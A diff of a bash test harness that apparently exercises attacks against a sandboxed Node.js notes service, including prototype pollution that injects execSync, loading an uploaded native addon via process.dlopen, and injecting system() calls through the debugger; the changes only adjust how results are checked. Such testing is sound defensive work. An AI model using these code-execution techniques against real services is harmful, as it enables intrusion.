@@ -13,6 +13,8 @@ rare_own=(debugger heap_snapshot operator_script large_upload new_template users
 
 note_ids=()
 
+# The users' passwords are those that the requests have.
+# shellcheck disable=SC2016
 image_prepare() {
 	local tree=$1 i user data=$1/var/lib/notes
 	mkdir -p "$tree"/srv/notes "$tree"/etc/notes "$data"/{notes,files} "$tree"/var/log/notes "$tree"/home/node/.ssh
@@ -150,7 +152,7 @@ administer() {
 rare_debugger() {
 	container_signal node USR1
 	sleep 1
-	client curl -sS http://127.0.0.1:9229/json
+	inside_network curl -sS http://127.0.0.1:9229/json
 }
 
 rare_heap_snapshot() {
@@ -243,7 +245,7 @@ attack_prototype_pollution() {
 		.execSync(\"id >/tmp/polluted\"), data"}}')"
 	fetch /notes/1 -o /dev/null
 	send PATCH /settings '{"__proto__": {"local": "data"}}'
-	session node /usr/bin/cat /tmp/polluted | grep -q uid=1000
+	grep -q uid=1000 "$(image_path node /tmp/polluted)"
 }
 
 attack_evaluated_secret() {
@@ -345,7 +347,7 @@ attack_native_module() {
 	C
 	client_stdin curl -sS -T - "http://$own_address:$port/files/addon.node" <"$stage/addon.node"
 	evaluate 'process.dlopen({ exports: {} }, "/var/lib/notes/files/addon.node")'
-	session node /usr/bin/cat /tmp/addon | grep -q loaded
+	grep -q loaded "$(image_path node /tmp/addon)"
 }
 
 # A shell by code inside the process.
@@ -353,7 +355,7 @@ attack_code_shell() {
 	harm exec '/usr/bin/id'
 	harm write '/tmp/code'
 	inject node server.js 'call (int) system("id >/tmp/code")'
-	session node /usr/bin/cat /tmp/code | grep -q uid=1000
+	grep -q uid=1000 "$(image_path node /tmp/code)"
 }
 
 # ---- attacks that only do what the service does ----
